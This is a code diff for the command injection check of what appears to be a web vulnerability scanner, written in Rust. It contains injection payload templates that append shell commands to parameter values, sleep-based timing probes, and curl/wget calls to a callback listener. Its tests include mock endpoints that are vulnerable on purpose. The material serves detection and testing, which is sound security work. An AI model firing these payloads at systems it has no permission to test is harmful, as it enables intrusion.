@@ -4,6 +4,7 @@ use futures_util::FutureExt;
 use futures_util::future::BoxFuture;
 
 use super::facts::{Facts, facts};
+use super::traversal::has_likely_name;
 use super::{called, computed, timing};
 use crate::checks::run::points_of;
 use crate::checks::{About, Bench, Check, Entry, callback};
@@ -36,8 +37,9 @@ const SHOWN: &[&str] = &[
     "{v}\necho $(({a}*{b}))\n",
     "{v}`echo $(({a}*{b}))`",
     "{v};echo $(({a}*{b}))",
-    "{v}|echo $(({a}*{b}))",
-    "{v}&echo $(({a}*{b}))",
+    "{v}|expr {a} \\* {b}",
+    "{v}&expr {a} \\* {b}",
+    "{v}\nexpr {a} \\* {b}\n",
     "{v};echo${IFS}$(({a}*{b}))",
     "{v}|echo${IFS}$(({a}*{b}))",
     "{v}\necho${IFS}$(({a}*{b}))\n#",
@@ -71,6 +73,9 @@ const OTHERWISE: &[&str] = &[
     "{v}\"||1{print {a}*{b}}1==\"{v}",
 ];
 
+/// What opens files in Perl runs a name with a sign for a pipe at its end.
+const OPENED: &[&str] = &["echo $(({a}*{b}))|"];
+
 const WITHIN: &[&str] =
     &["{v}$(sleep${IFS}{t})", "{v}`sleep\t{t}`", "{v}\nsleep\t{t}\n#'\nsleep\t{t}\n#\"\nsleep\t{t}\n#"];
 
@@ -90,11 +95,11 @@ const WAITING: &[&str] = &[
 
 /// What calls the listener, with whatever program is there for it.
 const CALLING: &[&str] = &[
-    "{v};curl -sm3 {u}||wget -qT3 -O- {u};#';curl -sm3 {u}||wget -qT3 -O- {u};#\";curl -sm3 {u}||wget -qT3 -O- {u};#",
-    "{v}$(curl${IFS}-sm3${IFS}{u}||wget${IFS}-qT3${IFS}-O-${IFS}{u})",
-    "{v}|curl -sm3 {u} #'|curl -sm3 {u} #\"|curl -sm3 {u} #",
-    "{v}\ncurl -sm3 {u}||wget -qT3 -O- {u}\n",
-    "{v}&curl -sm3 {u}&\"&curl -sm3 {u}&",
+    "{v};curl -sm3 {u};wget -qT3 -O- {u};#';curl -sm3 {u};wget -qT3 -O- {u};#\";curl -sm3 {u};wget -qT3 -O- {u};#",
+    "{v}$(curl${IFS}-sm3${IFS}{u})$(wget${IFS}-qT3${IFS}-O-${IFS}{u})",
+    "{v}|curl -sm3 {u}|wget -qT3 -O- {u} #'|curl -sm3 {u}|wget -qT3 -O- {u} #\"|curl -sm3 {u}|wget -qT3 -O- {u} #",
+    "{v}\ncurl -sm3 {u}\nwget -qT3 -O- {u}\n#'\ncurl -sm3 {u}\nwget -qT3 -O- {u}\n#\"\ncurl -sm3 {u}\nwget -qT3 -O- {u}\n#",
+    "{v}&curl -sm3 {u}&wget -qT3 -O- {u}&\"&curl -sm3 {u}&wget -qT3 -O- {u}&",
 ];
 
 impl Check for Command {
@@ -196,17 +201,24 @@ async fn by_output(
     let at_once = attempts(&[all.as_str()]);
     let attempt = at_once.first()?;
     let answer = bench.send_of(entry, &entry.request.with(point, &attempt.payload)).await.ok()?;
-    let is_refused = known.refuses(&answer);
+    // Not all that refuses says so by its status.
+    let is_refused = known.refuses(&answer) || known.says_else(point, &answer, &attempt.payload);
     let is_shown = attempt.expect.find(&Seen { response: answer, ..Seen::default() }).is_some();
     if is_shown || is_refused {
         let list = attempts(SHOWN);
         let found = computed::prove_first(bench, entry, point, &list).await;
-        if found.is_some() || is_refused {
+        if found.is_some() {
             return found;
         }
-        return computed::prove_first(bench, entry, point, &at_once).await;
+        if is_shown {
+            return computed::prove_first(bench, entry, point, &at_once).await;
+        }
     }
-    computed::prove_first(bench, entry, point, &attempts(OTHERWISE)).await
+    let found = computed::prove_first(bench, entry, point, &attempts(OTHERWISE)).await;
+    if found.is_some() || !has_likely_name(point) {
+        return found;
+    }
+    computed::prove_first(bench, entry, point, &attempts(OPENED)).await
 }
 
 async fn by_waiting(
@@ -216,9 +228,13 @@ async fn by_waiting(
 ) -> Option<(String, Proof)> {
     let all = ended(&behind_all("sleep${IFS}1", &point.place), point).replace("{v}", &point.value);
     let answer = bench.send_of(entry, &entry.request.with(point, &all)).await.ok()?;
-    let may_wait = answer.elapsed >= timing::SIGN + entry.response.elapsed || known.refuses(&answer);
-    let list = if may_wait { WAITING } else { WITHIN };
-    let list: Vec<String> = list.iter().map(|template| ended(template, point)).collect();
+    let has_waited = answer.elapsed >= timing::SIGN + entry.response.elapsed || known.refuses(&answer);
+    // Another page may be that of a filter, or only say that the command failed.
+    let is_else = known.says_else(point, &answer, &all);
+    let within: &[&str] = if has_waited { &[] } else { WITHIN };
+    let waiting: &[&str] = if has_waited || is_else { WAITING } else { &[] };
+    let list = within.iter().chain(waiting);
+    let list: Vec<String> = list.map(|template| ended(template, point)).collect();
     let list: Vec<&str> = list.iter().map(String::as_str).collect();
     timing::prove_first(bench, entry, point, &list).await
 }
@@ -268,13 +284,16 @@ mod tests {
             "/no-dollar" => {
                 shell(&format!("echo looking for {}", host.replace(['$', '`', ' ', '(', ')'], "")))
             }
+            "/worded" if host.contains([';', '&', '`', '$', '\n']) => "That is not allowed here".to_owned(),
+            "/worded" => shell(&format!("echo looking for {host}")),
             "/hidden" => {
                 shell(&format!("echo {host}"));
                 "done".to_owned()
             }
             // A job takes it up later: neither an output nor a wait.
-            "/queued" | "/slow-queue" => {
-                let wait = if asked.path == "/queued" { "" } else { "sleep 0.3; " };
+            "/queued-filtered" if host.contains(['|', '&']) => "no".to_owned(),
+            "/queued" | "/slow-queue" | "/queued-filtered" => {
+                let wait = if asked.path.starts_with("/queued") { "" } else { "sleep 0.3; " };
                 let job = format!("({wait}echo {host}) >/dev/null 2>&1 &");
                 shell(&job);
                 "queued".to_owned()
@@ -301,6 +320,7 @@ mod tests {
             "/ending",
             "/pattern",
             "/no-dollar",
+            "/worded",
         ];
         for path in paths {
             let found = scan(&Command, server, &format!("{path}?host=a.test")).await;
@@ -321,7 +341,9 @@ mod tests {
     async fn commands_of_jobs_are_found_by_their_calls() {
         let server = serve(answer).await;
         let listener = CallbackListener::start(IpAddr::from([127, 0, 0, 1])).await.unwrap();
-        for (path, wanted) in [("/queued", 1), ("/slow-queue", 1), ("/checked", 0), ("/argument", 0)] {
+        for (path, wanted) in
+            [("/queued", 1), ("/queued-filtered", 1), ("/slow-queue", 1), ("/checked", 0), ("/argument", 0)]
+        {
             let url = Target::parse(&format!("http://{server}{path}?host=a.test")).unwrap();
             let extras = Extras { listener: Some(&listener), ..Extras::default() };
             let (found, _) = scan_with(&Command, vec![Request::get(url)], extras).await;
